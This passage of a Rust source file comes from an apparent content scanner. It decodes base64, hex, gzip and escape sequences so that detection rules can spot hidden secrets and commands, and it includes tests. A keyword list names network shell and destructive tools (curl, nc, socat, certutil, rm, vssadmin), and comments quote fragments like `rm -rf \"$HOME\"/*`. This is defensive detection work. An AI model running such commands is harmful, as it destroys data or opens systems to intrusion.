    let before = out.len();
    for pair in run.chunks_exact(2) {
        match (hex_val(pair[0]), hex_val(pair[1])) {
            (Some(h), Some(l)) => out.push(h << 4 | l),
            _ => {
                out.truncate(before);
                return false;
            }
        }
    }
    true
}

/// The base64 crate's decoding error, or base64-simd's.
#[derive(Debug)]
struct NotBase64;

/// Runs shorter than this are decoded by the lenient engine alone.
const SIMD_DECODE_MIN: usize = 128;

/// Appends the decoding of `run` (base64-class bytes of one alphabet, no
/// padding) to `out`, exactly as the lenient engine decodes it. Every
/// quantum but the last goes through base64-simd, which decodes with AVX2
/// where the CPU has it; the last, whose unused bits may be non-zero
/// (base64-simd refuses those, the lenient engine does not), through the
/// lenient engine. Whole quanta decode the same either way (tested).
fn decode_append(url_safe: bool, run: &[u8], out: &mut Vec<u8>) -> Result<(), NotBase64> {
    // Short runs (most runs in prose and code) in one call of the lenient
    // engine: two calls cost more than SIMD saves there.
    let simd_from = if run.len() < SIMD_DECODE_MIN {
        0
    } else {
        run.len().saturating_sub(1) / 4 * 4
    };
    let (body, last) = run.split_at(simd_from);
    if !body.is_empty() {
        let simd = if url_safe {
            &base64_simd::URL_SAFE_NO_PAD
        } else {
            &base64_simd::STANDARD_NO_PAD
        };
        simd.decode_append(body, out).map_err(|_| NotBase64)?;
    }
    let engine = if url_safe { &B64_URL } else { &B64_STD };
    engine.decode_vec(last, out).map_err(|_| NotBase64)
}

/// Base64 characters decoded by the first step of [`decode_text_into`]:
/// a multiple of 4, so the steps decode exactly as the whole run does. Each
/// later step is twice as long, up to [`DECODE_STEP_MAX`].
const DECODE_STEP: usize = 1024;
const DECODE_STEP_MAX: usize = 16 * 1024;

/// Decodes `run` onto `out` step by step and stops, returning `false`,
/// as soon as the bytes decoded so far hold more non-text bytes than the
/// whole decoded run may for [`mostly_text`] (a tenth of at most
/// `run.len() * 3 / 4`): an image or archive in a data URI is rejected
/// after its first steps, not decoded whole. Returns `true` when the whole
/// run decoded and `mostly_text` holds for it (and, when `strict`, every
/// byte is printable or a line break or tab: the bar for short base64
/// runs, where 12 to 17 bytes make the 90 % rule too loose); on `false`,
/// `out` may hold a part and the caller cuts it off.
fn decode_text_into(url_safe: bool, run: &[u8], strict: bool, out: &mut Vec<u8>) -> bool {
    let at = out.len();
    let allowed = if strict { 0 } else { run.len() * 3 / 4 / 10 };
    let mut non_text = 0usize;
    let mut step = DECODE_STEP;
    let mut rest = run;
    while !rest.is_empty() {
        let (now, later) = rest.split_at(step.min(rest.len()));
        rest = later;
        step = (step * 2).min(DECODE_STEP_MAX);
        let from = out.len();
        if decode_append(url_safe, now, out).is_err() {
            return false;
        }
        non_text += out.get(from..).map_or(0, non_text_count);
        if non_text > allowed {
            return false;
        }
    }
    out.get(at..)
        .is_some_and(|d| mostly_text(d) && (!strict || non_text == 0))
}

/// The base64, hex and base64-gzip views of `text`, from one pass over its
/// base64-class runs (hex digits are base64-class, so a hex run is such a
/// run). A gzip member is inflated to at most `gzip_cap` bytes (0: gzip
/// runs are not inflated).
pub fn encoded_segments(text: &[u8], gzip_cap: usize) -> Segments {
    encoded_segments_closed(text, gzip_cap, text.len() + 1, text.len(), None)
}

/// Where a run of base64-class bytes ending at the end of `text` starts,
/// if it is short enough to be decoded once complete: in a frame that is
/// not the last, such a run may go on in the next frame.
pub fn open_base64_run(text: &[u8]) -> Option<usize> {
    let tail = text
        .iter()
        .rev()
        .take(BASE64_MAX_RUN + 1)
        .take_while(|&&b| B64_CLASS[usize::from(b)] != 0)
        .count();
    (tail > 0 && tail <= BASE64_MAX_RUN).then_some(text.len() - tail)
}

/// [`encoded_segments`] of a frame that is not the last, whose carry-over
/// would start at `carry`: a run still open at the end, or ending past
/// `hold`, is left for the next scan, and `carry` is lowered to the start of
/// that run and of any run it would cut, so the next scan decodes them whole.
///
/// A run ending past `hold` but before the end may still be cut by the
/// frame's end: in a decoded view, the text's last bytes can be an escape
/// the frame cut (`…%5`), which ends the run early.
pub fn encoded_segments_carrying(
    text: &[u8],
    gzip_cap: usize,
    hold: usize,
    carry: &mut usize,
) -> Segments {
    let open = open_base64_run(text);
    if let Some(o) = open {
        *carry = (*carry).min(o);
    }
    encoded_segments_closed(
        text,
        gzip_cap,
        open.unwrap_or(text.len() + 1),
        hold,
        Some(carry),
    )
}

fn encoded_segments_closed(
    text: &[u8],
    gzip_cap: usize,
    open: usize,
    hold: usize,
    mut carry: Option<&mut usize>,
) -> Segments {
    let mut seg = Segments::default();
    let runs = base64_runs(text);
    // Room for every run decoded, reserved once, when a first run turns out
    // to be text: growing the view as runs decode copied it over and over
    // (a tenth of the view's time on base64-heavy text). Pages never
    // written are never touched.
    let mut room = View {
        bytes: Vec::new(),
        reserve: runs
            .iter()
            .map(|&(s, e, _)| (e - s) / 4 * 3 + 2 + SEGMENT_SEPARATOR.len())
            .sum(),
    };
    let mut joined: Vec<u8> = Vec::new();
    let mut lines: Vec<Range<usize>> = Vec::new();
    let mut i = 0;
    while let Some(&(start, _, _)) = runs.get(i) {
        let block = wrapped_block(text, &runs, i, &mut lines);
        i += block.runs;
        let end = block.end;
        if end >= open || (block.may_go_on && carry.is_some()) {
            // Still open at the text's end: the next scan decodes it whole.
            if let Some(from) = carry.as_deref_mut() {
                *from = (*from).min(start);
            }
            continue;
        }
        if end > hold && end - start <= BASE64_MAX_RUN {
            if let Some(from) = carry.as_deref_mut() {
                *from = (*from).min(start);
                continue;
            }
        }
        if let Some(from) = carry.as_deref_mut() {
            if start < *from && end > *from {
                *from = start;
            }
        }
        let mut text_block = false;
        if lines.len() > 1 {
            // The lines decoded as one text, as the wrapped data was written.
            joined.clear();
            for line in &lines {
                joined.extend_from_slice(&text[line.clone()]);
            }
            if let Some(url_safe) = block.alphabet {
                let unit = decode_unit(&joined, url_safe, gzip_cap, &mut seg, &mut room);
                if let Unit::Base64(at) = unit {
                    if !lines_decoded_again() {
                        let lines = lines.get(..block.runs).unwrap_or_default();
                        lines_from_block(
                            text,
                            lines,
                            &runs[i - block.runs..i],
                            at,
                            gzip_cap,
                            &mut seg,
                            &mut room,
                        );
                        continue;
                    }
                    text_block = true;
                }
            }
        }
        // And each line on its own, as before blocks were joined: a block
        // may join unrelated lines (a same-width line before the data, a
        // short one after it), and a value glued to its neighbour's bytes
        // loses its boundary (found by the body_split fuzz target). Joining
        // only ever adds what is found. Of a block that decodes as text,
        // only the lines where it may join unrelated ones (`read_alone`).
        let block_runs = &runs[i - block.runs..i];
        for (k, &(s, e, url_safe)) in block_runs.iter().enumerate() {
            if text_block && !read_alone(k, block_runs.len()) {
                continue;
            }
            if let Some(run) = text.get(after_escaped_n(text, s)..e) {
                decode_unit(run, url_safe, gzip_cap, &mut seg, &mut room);
            }
        }
    }
    seg.base64 = (!room.bytes.is_empty()).then_some(room.bytes);
    seg
}

/// Each line of a block whose joined decoding is base64 text that is read
/// alone ([`read_alone`]), judged and added on its own exactly as
/// [`decode_unit`] would, but read off the
/// block's decoded bytes (from `at` in the view) instead of decoded again:
/// every line but the last is whole quanta, so a line's bytes are a slice of
/// the block's. Decoding 60-character lines one by one cost as much as the
/// rest of the base64-heavy scan. Hex- and gzip-shaped lines are decoded.
fn lines_from_block(
    text: &[u8],
    lines: &[Range<usize>],
    runs: &[(usize, usize, bool)],
    at: usize,
    gzip_cap: usize,
    seg: &mut Segments,
    view: &mut View,
) {
    let mut from = at;
    for (k, (line, &(_, _, url_safe))) in lines.iter().zip(runs).enumerate() {
        let chars = line.len();
        let len = chars / 4 * 3 + [0, 0, 1, 2][chars % 4];
        let bytes = from..from + len;
        from += len;
        if !read_alone(k, lines.len()) {
            continue;
        }
        let Some(run) = text.get(line.clone()) else {
            continue;
        };
        if chars % 4 == 1 {
            continue; // never decodes
        }
        if hex_digits(run).is_some() || (gzip_cap > 0 && run.starts_with(b"H4sI")) {
            decode_unit(run, url_safe, gzip_cap, seg, view);
            continue;
        }
        if view
            .bytes
            .get(bytes.clone())
            .is_some_and(|d| judged_text(d, chars))
        {
            view.bytes.extend_from_slice(SEGMENT_SEPARATOR);
            view.bytes.extend_from_within(bytes);
        }
    }
}

/// Whether line `k` of a block of `n` lines that decodes as text is also
/// read on its own: the two at each end, where a block can join unrelated
/// lines (a same-width line before the data, a short one after it). The
/// lines between are one wrapped text: read alone, they only repeat it cut
/// at arbitrary bytes, and repeating every line doubled the base64 view
/// (its prefilter pass was the largest part of the base64-heavy scan).
fn read_alone(k: usize, n: usize) -> bool {
    k < 2 || k + 2 >= n
}

/// Whether [`decode_unit`] keeps a base64 run of `chars` characters that
/// decodes to `decoded`: the head test of [`may_decode_to_text`], then the
/// verdict of [`decode_text_into`] (whose early stop rejects only what its
/// final test rejects).
fn judged_text(decoded: &[u8], chars: usize) -> bool {
    if chars >= 16 {
        let head = decoded.get(..12).unwrap_or(decoded);
        if non_text_count(head) * 10 > chars * 3 / 4 {
            return false;
        }
    }
    let strict = chars < BASE64_MIN_RUN;
    mostly_text(decoded) && (!strict || non_text_count(decoded) == 0)
}

#[cfg(test)]
thread_local! {
    /// Tests set this to decode every line of a block again, the reference
    /// [`lines_from_block`] is compared with.
    static DECODE_LINES_AGAIN: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
}

fn lines_decoded_again() -> bool {
    #[cfg(test)]
    {
        DECODE_LINES_AGAIN.with(std::cell::Cell::get)
    }
    #[cfg(not(test))]
    {
        false
    }
}

/// What [`decode_unit`] made of a run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Unit {
    /// Not text (or not decodable): nothing added.
    Rejected,
    /// Added to the hex or the gzip view.
    Other,
    /// Added to the base64 view, its bytes from this offset on.
    Base64(usize),
}

/// The hex digits of `run` when it is decoded as hex: at least
/// [`HEX_MIN_PAIRS`] pairs (the first 16 tested), `0x` allowed in front.
fn hex_digits(run: &[u8]) -> Option<&[u8]> {
    let hex = run
        .strip_prefix(b"0x")
        .or_else(|| run.strip_prefix(b"0X"))
        .unwrap_or(run);
    (hex.len() >= 2 * HEX_MIN_PAIRS
        && hex.len().is_multiple_of(2)
        && hex[..2 * HEX_MIN_PAIRS].iter().all(u8::is_ascii_hexdigit))
    .then_some(hex)
}

/// The base64 view being decoded, with the room still to reserve for it.
struct View {
    bytes: Vec<u8>,
    reserve: usize,
}

/// Fewest characters in each full line of a [`WrappedBlock`]: tools wrap
/// encoded data at 60 (GitHub's contents API), 64 (PEM) or 76 (`base64`,
/// MIME) characters, while lists of short ids or hashes one per line stay
/// runs of their own.
const WRAP_MIN_LINE: usize = 40;

/// Base64-class lines one line break apart, every line but the last of the
/// first line's length, a multiple of 4: the way `base64`, MIME, PEM bodies
/// and GitHub's contents API wrap encoded data. Decoded line by line with
/// separators between them, a secret crossing a line's end was lost, and a
/// multi-line rule (a private key in a base64'd file) could never match;
/// decoded as one, every line's quanta join as in the unwrapped data. The
/// lines are still decoded one by one as well.
struct WrappedBlock {
    /// How many of the runs from the first one the block holds (1 for a run
    /// that is not wrapped). A short last line may not be a run.
    runs: usize,
    /// Where the block's last line ends.
    end: usize,
    /// Whether the lines are URL-safe; `None` when they mix both alphabets.
    alphabet: Option<bool>,
    /// Whether the text ends where another line of the block could still
    /// follow (its last line full, then at most a line break and part of a
    /// line): in a frame that is not the last, the block is left whole for
    /// the next scan, as a run still open at the end is.
    may_go_on: bool,
}

/// Where the next line of a wrapped block starts after a line ending at
/// `end`, and whether the break was JSON-escaped: raw (`\n`, `\r\n`) or
/// as written inside a JSON string (`\\n`, `\\r\\n`), where API answers
/// carry wrapped data. After an escaped break the next run starts at its
/// `n`, a base64-class byte.
fn line_after(text: &[u8], end: usize) -> Option<(usize, bool)> {
    let rest = text.get(end..)?;
    LINE_BREAKS
        .iter()
        .find(|(brk, _)| rest.starts_with(brk))
        .map(|&(brk, escaped)| (end + brk.len(), escaped))
}

/// The line breaks between the lines of a [`WrappedBlock`], and whether
/// each is JSON-escaped.
const LINE_BREAKS: [(&[u8], bool); 4] = [
    (b"\n", false),
    (b"\r\n", false),
    (b"\\n", true),
    (b"\\r\\n", true),
];

/// Whether `rest`, the text after a full line, can be the start of another
/// line of the block: nothing, a line break or part of one, or a line break
/// and base64-class bytes to the end.
fn may_go_on(rest: &[u8], width: usize) -> bool {
    rest.len() <= width + 4
        && LINE_BREAKS.iter().any(|&(brk, _)| {
            brk.starts_with(rest)
                || rest
                    .strip_prefix(brk)
                    .is_some_and(|line| line.iter().all(|&b| B64_CLASS[usize::from(b)] != 0))
        })
}

/// Where the data of a run starting at `start` begins: after the `n` of a
/// JSON-escaped line break (`…\\nQUJD…` in a JSON string), which the run
/// holds because `n` is a base64 letter. Decoded with it, every byte of the
/// run was shifted by six bits.
fn after_escaped_n(text: &[u8], start: usize) -> usize {
    let escaped = start >= 1
        && text.get(start - 1..=start) == Some(&b"\\n"[..])
        && (start < 2 || text.get(start - 2) != Some(&b'\\'));
    start + usize::from(escaped)
}

/// The [`WrappedBlock`] starting at `runs[first]`, at most
/// [`BASE64_MAX_RUN`] bytes of text, so it is carried whole like a run;
/// its lines go to `lines`: more than one when it is wrapped.
fn wrapped_block(
    text: &[u8],
    runs: &[(usize, usize, bool)],
    first: usize,
    lines: &mut Vec<Range<usize>>,
) -> WrappedBlock {
    lines.clear();
    let Some(&(start, first_end, url)) = runs.get(first) else {
        return WrappedBlock {
            runs: 0,
            end: 0,
            alphabet: None,
            may_go_on: false,
        };
    };
    let mut block = WrappedBlock {
        runs: 1,
        end: first_end,
        alphabet: Some(url),
        may_go_on: false,
    };
    let first_start = after_escaped_n(text, start);
    let width = first_end - first_start;
    if width < WRAP_MIN_LINE || !width.is_multiple_of(4) {
        return block;
    }
    lines.push(first_start..first_end);
    let mut has_url = url;
    let mut last_len = width;
    while let Some((next, escaped)) = line_after(text, block.end) {
        // The next run, when it is this line (with an escape's `n`).
        let run = runs
            .get(first + block.runs)
            .filter(|&&(s, _, _)| s == next || (escaped && s + 1 == next));
        let len = match run {
            Some(&(_, e, _)) => e - next,
            None => text
                .get(next..)
                .unwrap_or_default()
                .iter()
                .take(width + 1)
                .take_while(|&&b| B64_CLASS[usize::from(b)] != 0)
                .count(),
        };
        // A quantum of one character cannot end base64 data.
        if len == 0 || len > width || len % 4 == 1 || next + len - start > BASE64_MAX_RUN {
            break;
        }
        // Not a run: only a short last line may be (`Zm9vCg`, or shorter
        // than a run).
        if run.is_some() {
            block.runs += 1;
        } else if len == width {
            break;
        }
        let line = next..next + len;
        // A run's alphabet was told when it was found (its escape's `n` is
        // neither alphabet's own).
        has_url |= match run {
            Some(&(_, _, url)) => url,
            None => memchr::memchr2(b'-', b'_', &text[line.clone()]).is_some(),
        };
        lines.push(line);
        block.end = next + len;
        last_len = len;
        if len < width {
            break;
        }
    }
    block.may_go_on = last_len == width && may_go_on(&text[block.end..], width);
    if lines.len() > 1 {
        // A URL-safe block (rare) must not hold a standard-only byte.
        let mixed = has_url
            && lines
                .iter()
                .any(|l| memchr::memchr2(b'+', b'/', &text[l.clone()]).is_some());
        block.alphabet = (!mixed).then_some(has_url);
    }
    block
}

/// Decodes one run (or [`WrappedBlock`]'s joined lines) into the view it
/// belongs to.
fn decode_unit(
    run: &[u8],
    url_safe: bool,
    gzip_cap: usize,
    seg: &mut Segments,
    view: &mut View,
) -> Unit {
    // Hex: whole run of hex digit pairs, `0x` allowed in front.
    if let Some(hex) = hex_digits(run) {
        // Hashes and ids (commit ids and checksums fill changelogs) decode
        // to binary: judge the first 16 bytes, on the stack, before
        // decoding the rest.
        let mut head = [0u8; HEX_MIN_PAIRS];
        for (byte, pair) in head.iter_mut().zip(hex.chunks_exact(2)) {
            *byte = HEX_VALUE[usize::from(pair[0])] << 4 | HEX_VALUE[usize::from(pair[1])];
        }
        if non_text_count(&head) * 10 > hex.len() / 2 {
            return Unit::Rejected;
        }
        let mut decoded = Vec::with_capacity(hex.len() / 2);
        if hex_decode_into(hex, &mut decoded) && mostly_text(&decoded) {
            push_segment(&mut seg.hex, &decoded);
            return Unit::Other;
        }
        return Unit::Rejected;
    }
    if gzip_cap > 0 && run.starts_with(b"H4sI") {
        let mut packed = Vec::with_capacity(run.len() / 4 * 3 + 3);
        if decode_append(url_safe, run, &mut packed).is_ok() {
            let (inflated, _) = decode_body(&[ContentCoding::Gzip], &packed, gzip_cap);
            if mostly_text(&inflated) {
                push_segment(&mut seg.gzip, &inflated);
                return Unit::Other;
            }
        }
        return Unit::Rejected;
    }
    let short = run.len() < BASE64_MIN_RUN;
    if !may_decode_to_text(run, url_safe) {
        return Unit::Rejected;
    }
    // Decode straight into the view; a run that is not text is cut off
    // again, so no run costs an allocation of its own.
    let out = &mut view.bytes;
    out.reserve(std::mem::take(&mut view.reserve));
    let before = out.len();
    if before > 0 {
        out.extend_from_slice(SEGMENT_SEPARATOR);
    }
    let at = if before > 0 {
        before + SEGMENT_SEPARATOR.len()
    } else {
        0
    };
    if decode_text_into(url_safe, run, short, out) {
        return Unit::Base64(at);
    }
    out.truncate(before);
    Unit::Rejected
}

/// The end of a run of at least [`HEX_MIN_PAIRS`] `\\xNN` escapes (as in
/// shell `printf` and C strings) starting at `start`, if there is one.
pub fn hex_escape_run_at(text: &[u8], start: usize) -> Option<usize> {
    let mut at = start;
    let mut pairs = 0usize;
    while text.get(at) == Some(&b'\\')
        && text.get(at + 1) == Some(&b'x')
        && text.get(at + 2).is_some_and(u8::is_ascii_hexdigit)
        && text.get(at + 3).is_some_and(u8::is_ascii_hexdigit)
    {
        pairs += 1;
        at += 4;
    }
    (pairs >= HEX_MIN_PAIRS).then_some(at)
}

/// The end of a run of at least [`HEX_MIN_PAIRS`] octal `\\ooo` escapes
/// (`printf '\\162\\155'`, bash's `$'\\143'`) starting at `start`, if
/// there is one. Read by the hex view as it reads `\\xNN` runs.
pub fn octal_escape_run_at(text: &[u8], start: usize) -> Option<usize> {
    let mut at = start;
    let mut bytes = 0usize;
    let octal = |b: Option<&u8>| b.is_some_and(|b| (b'0'..=b'7').contains(b));
    while text.get(at) == Some(&b'\\')
        && text.get(at + 1).is_some_and(|b| (b'0'..=b'3').contains(b))
        && octal(text.get(at + 2))
        && octal(text.get(at + 3))
    {
        bytes += 1;
        at += 4;
    }
    (bytes >= HEX_MIN_PAIRS).then_some(at)
}

/// A run of `\\xNN` or of `\\ooo` escapes at `start`.
fn escape_run_at(text: &[u8], start: usize) -> Option<usize> {
    hex_escape_run_at(text, start).or_else(|| octal_escape_run_at(text, start))
}

/// Every run of [`hex_escape_run_at`] or [`octal_escape_run_at`] in
/// `text`, in order.
pub fn hex_escape_runs(text: &[u8]) -> Vec<Range<usize>> {
    let mut runs = Vec::new();
    let mut resume = 0usize;
    for start in memchr::memchr_iter(b'\\', text) {
        if start < resume {
            continue;
        }
        if let Some(end) = escape_run_at(text, start) {
            resume = end;
            runs.push(start..end);
        }
    }
    runs
}

/// What one pass over the backslashes of a text finds for three views:
/// JSON escapes worth decoding (`\\u`, `\\/`, `\\"` before `$` or a
/// backtick, and line breaks before a command), runs of `\\xNN` or
/// `\\ooo` escapes, and
/// backslash-newlines between two word bytes (a shell line continuation
/// splitting a word).
#[derive(Debug, Default)]
pub struct BackslashTriggers {
    pub json: Vec<Range<usize>>,
    /// Escaped line breaks (`\\n`, `\\r`, `\\t`) before a command word or
    /// a chat turn ([`LINE_STARTS`]): in raw JSON the word follows an `n`,
    /// so no rule sees the start of its line there.
    pub json_line: Vec<Range<usize>>,
    pub hex: Vec<Range<usize>>,
    pub continuation: Vec<Range<usize>>,
}

fn is_shell_word(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'/' | b'.')
}

/// Files the backslash at `i` (where `text[i]` is `\\`) under its
/// [`BackslashTriggers`] list, if any, and returns the position before which
/// later backslashes are skipped: the end of a `\\xNN` or `\\ooo` run it starts, past
/// the backslash an escaped backslash escapes, or `i` itself. Called for
/// each backslash in order at or past the last position returned, it finds
/// every list in order.
pub(crate) fn backslash_at(text: &[u8], i: usize, t: &mut BackslashTriggers) -> usize {
    match text.get(i + 1) {
        Some(b'u') => t.json.push(i..(i + 6).min(text.len())),
        Some(b'/') => t.json.push(i..i + 2),
        // An escaped quote opening a shell expansion (`sh -c \"$(curl`,
        // `rm -rf \"$HOME\"/*`): the command reads right only unescaped.
        // Escaped quotes alone are everywhere in JSON and trigger nothing.
        Some(b'"') if matches!(text.get(i + 2), Some(b'$') | Some(b'`')) => t.json.push(i..i + 3),
        Some(b'x') => {
            if let Some(end) = hex_escape_run_at(text, i) {
                t.hex.push(i..end);
                return end;
            }
        }
        Some(b'0'..=b'3') => {
            if let Some(end) = octal_escape_run_at(text, i) {
                t.hex.push(i..end);
                return end;
            }
        }
        Some(b'\n')
            if i > 0
                && text.get(i - 1).is_some_and(|&b| is_shell_word(b))
                && text.get(i + 2).is_some_and(|&b| is_shell_word(b)) =>
        {
            t.continuation.push(i..i + 2)
        }
        Some(b'\\') => return i + 2, // an escaped backslash escapes nothing
        Some(b'n' | b'r' | b't') if starts_line_worth_reading(text, i + 2) => {
            t.json_line.push(i..i + 2)
        }
        _ => {}
    }
    i
}

/// What starts a line worth reading unescaped after a JSON line break:
/// the commands and chat turns the inbound rules read from a line's start,
/// lowercase (compared ASCII case-insensitively), at least two bytes,
/// sorted (a test checks both). Others start mid-line, where the raw text
/// reads the same.
pub const LINE_STARTS: &[&str] = &[
    "$(",
    "assistant:",
    "awk ",
    "aws ",
    "az ",
    "base64",
    "bash",
    "bitsadmin",
    "cat ",
    "certutil",
    "chmod",
    "chown",
    "cmd ",
    "cmd.exe",
    "cscript",
    "curl",
    "dd ",
    "del ",
    "dig ",
    "docker",
    "env ",
    "env|",
    "eval",
    "exec",
    "find ",
    "gcloud",
    "gh ",
    "git ",
    "human:",
    "iex",
    "import ",
    "invoke-",
    "irm ",
    "iwr ",
    "kubectl",
    "lua ",
    "mariadb",
    "mkfs",
    "mshta",
    "msiexec",
    "mysql",
    "nc ",
    "ncat",
    "new-object",
    "node ",
    "nslookup",
    "openssl",
    "os.system",
    "perl ",
    "php ",
    "powershell",
    "printenv",
    "printf",
    "psql",
    "pwsh",
    "python",
    "rd ",
    "regsvr32",
    "requests.",
    "rm ",
    "rsync",
    "ruby ",
    "rundll32",
    "scp ",
    "sh ",
    "shred",
    "socat",
    "sqlcmd",
    "ssh",
    "start ",
    "subprocess",
    "sudo ",
    "system:",
    "tar ",
    "telnet",
    "terraform",
    "urllib",
    "user:",
    "vssadmin",
    "wbadmin",
    "wget",
    "wipefs",
    "wscript",
    "xargs",
    "zsh ",
];

/// The first two bytes of every [`LINE_STARTS`] word, lowercased, as a bit
/// per pair: most line breaks in JSON are followed by prose, and this one
/// test ends them (a search of the list for each cost 15 % of scanning API
/// JSON inbound).
static LINE_START_PAIRS: [u64; 1024] = {
    let mut bits = [0u64; 1024];
    let mut i = 0;
    while i < LINE_STARTS.len() {
        let w = LINE_STARTS[i].as_bytes();
        let pair = (w[0] as usize) << 8 | w[1] as usize;
        bits[pair / 64] |= 1 << (pair % 64);
        i += 1;
    }
    bits
};

fn starts_line_worth_reading(text: &[u8], at: usize) -> bool {
    let Some(rest) = text.get(at..) else {
        return false;
    };
    let (Some(a), Some(b)) = (rest.first(), rest.get(1)) else {
        return false;
    };
    let pair = usize::from(a.to_ascii_lowercase()) << 8 | usize::from(b.to_ascii_lowercase());
    if LINE_START_PAIRS[pair / 64] & (1 << (pair % 64)) == 0 {
        return false;
    }
    // The list is sorted: the words of this pair are one range of it.
    let key = [a.to_ascii_lowercase(), b.to_ascii_lowercase()];
    let from = LINE_STARTS.partition_point(|w| w.as_bytes()[..2] < key[..]);
    LINE_STARTS[from..]
        .iter()
        .take_while(|w| w.as_bytes()[..2] == key[..])
        .any(|w| {
            rest.get(..w.len())
                .is_some_and(|t| t.eq_ignore_ascii_case(w.as_bytes()))
        })
}

/// Decodes the escaped hex and octal runs of [`hex_escape_runs`] in `text` that turn
/// out to be text, leaving everything else as it is. `None` when no run
/// decodes to text.
pub fn hex_unescape(text: &[u8]) -> Option<Vec<u8>> {
    let mut out: Option<Vec<u8>> = None;
    let mut copied = 0;
    for run in hex_escape_runs(text) {
        let unit = &text[run.clone()];
        let mut decoded = Vec::with_capacity(unit.len() / 4);
        if unit.get(1) == Some(&b'x') {
            // The two digits after every `x` of the run.
            let digits: Vec<u8> = memchr::memchr_iter(b'x', unit)
                .flat_map(|x| unit.get(x + 1..x + 3).unwrap_or_default().iter().copied())
                .collect();
            if !hex_decode_into(&digits, &mut decoded) {
                continue;
            }
        } else {
            // Four bytes an escape: `\\` and three octal digits.
            decoded.extend(unit.chunks_exact(4).map(|e| {
                e.iter().skip(1).fold(0u8, |v, d| {
                    v.wrapping_mul(8).wrapping_add(d.wrapping_sub(b'0'))
                })
            }));
        }
        if !mostly_text(&decoded) {
            continue;
        }
        let buf = out.get_or_insert_with(|| Vec::with_capacity(text.len()));
        buf.extend_from_slice(&text[copied..run.start]);
        buf.extend_from_slice(&decoded);
        copied = run.end;
    }
    let mut buf = out?;
    buf.extend_from_slice(&text[copied..]);
    Some(buf)
}

/// Percent-decodes like [`percent_decode`] and reads `+` as a space, as a
/// form body (`application/x-www-form-urlencoded`) or a query string does,
/// but only in the words (runs without whitespace) that hold a `%XX`
/// escape: a form-encoded text has no raw whitespace, while a `+` in a
/// word without escapes (a PEM or base64 line near a query string) is
/// meant as written, and reading it as a space made a second, different
/// finding of a key the raw text already showed. `None` when no `+` turns
/// into a space (then the text equals the percent view).
pub fn form_decode(text: &[u8]) -> Option<Vec<u8>> {
    memchr::memchr(b'+', text)?;
    let mut out: Option<Vec<u8>> = None;
    let mut copied = 0;
    let mut at = 0;
    while at < text.len() {
        let end = text[at..]
            .iter()
            .position(u8::is_ascii_whitespace)
            .map_or(text.len(), |p| at + p);
        let word = &text[at..end];
        if memchr::memchr(b'+', word).is_some() && has_percent_escape(word) {
            let buf = out.get_or_insert_with(|| Vec::with_capacity(text.len()));
            // Before the word, as the percent view reads it.
            percent_decode_into(&text[copied..at], false, buf);
            percent_decode_into(word, true, buf);
            copied = end;
        }
        at = end + 1;
    }
    let mut buf = out?;
    percent_decode_into(&text[copied..], false, &mut buf);
    buf.shrink_to_fit();
    Some(buf)
}

/// Whether `word` holds a `%XX` escape.
fn has_percent_escape(word: &[u8]) -> bool {
    memchr::memchr_iter(b'%', word).any(|p| {
        matches!(
            (
                word.get(p + 1).copied().and_then(hex_val),
                word.get(p + 2).copied().and_then(hex_val)
            ),
            (Some(_), Some(_))
        )
    })
}

/// Appends `text` percent-decoded to `out`, with `+` as a space when `plus`.
fn percent_decode_into(text: &[u8], plus: bool, out: &mut Vec<u8>) {
    let mut i = 0;
    while i < text.len() {
        match text[i] {
            b'+' if plus => out.push(b' '),
            b'%' if i + 2 < text.len() => {
                if let (Some(h), Some(l)) = (hex_val(text[i + 1]), hex_val(text[i + 2])) {
                    out.push(h << 4 | l);
                    i += 3;
                    continue;
                }
                out.push(b'%');
            }
            b => out.push(b),
        }
        i += 1;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn gzip(data: &[u8]) -> Vec<u8> {
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(data).unwrap();
        e.finish().unwrap()
    }

    #[test]
    fn parses_stacked_encodings_in_undo_order() {
        assert_eq!(
            parse_content_encoding("gzip, br").unwrap(),
            vec![ContentCoding::Brotli, ContentCoding::Gzip]
        );
        assert_eq!(parse_content_encoding("identity").unwrap(), vec![]);
        assert!(parse_content_encoding("compress").is_err());
    }

    #[test]
    fn gzip_streams_across_chunks() {
        let plain = b"hello world ".repeat(1000);
        let z = gzip(&plain);
        let mut d = StreamDecoder::new(&[ContentCoding::Gzip], 1 << 20);
        let mut out = Vec::new();
        for c in z.chunks(7) {
            out.extend(d.push(c));
        }
        out.extend(d.finish());
        assert_eq!(out, plain);
        assert_eq!(d.stopped(), None);
    }

    #[test]
    fn deflate_zlib_and_raw_and_brotli_and_zstd() {
        let plain = b"the quick brown fox jumps over the lazy dog".repeat(50);
        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
        z.write_all(&plain).unwrap();
        let zlib = z.finish().unwrap();
        let mut r = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
        r.write_all(&plain).unwrap();
        let raw = r.finish().unwrap();
        assert_eq!(
            decode_body(&[ContentCoding::Deflate], &zlib, 1 << 20).0,
            plain
        );
        assert_eq!(
            decode_body(&[ContentCoding::Deflate], &raw, 1 << 20).0,
            plain
        );
        let zs = zstd::stream::encode_all(&plain[..], 3).unwrap();
        assert_eq!(decode_body(&[ContentCoding::Zstd], &zs, 1 << 20).0, plain);
        let mut br = Vec::new();
        {
            let mut w = brotli::CompressorWriter::new(&mut br, 4096, 5, 22);
            w.write_all(&plain).unwrap();
        }
        assert_eq!(decode_body(&[ContentCoding::Brotli], &br, 1 << 20).0, plain);
    }

    #[test]
    fn bombs_stop_at_the_cap() {
        let bomb = gzip(&vec![b'A'; 50 << 20]);
        let (out, stop) = decode_body(&[ContentCoding::Gzip], &bomb, 1 << 20);
        assert_eq!(out.len(), 1 << 20);
        assert_eq!(stop, Some(DecodeStop::Capped));
        // Stacked: gzip inside gzip.
        let double = gzip(&bomb);
        let (out, stop) = decode_body(
            &[ContentCoding::Gzip, ContentCoding::Gzip],
            &double,
            1 << 20,
        );
        assert!(out.len() <= 1 << 20);
        assert_eq!(stop, Some(DecodeStop::Capped));
    }

    #[test]
    fn an_inner_stage_that_stops_never_leaks_encoded_bytes() {
        // `gzip, br` is undone br first: cap the brotli layer's output so it
        // stops mid-way; what comes out must be text, never a gzip header.
        let plain = b"the quick brown fox ".repeat(4000);
        let gz = gzip(&plain);
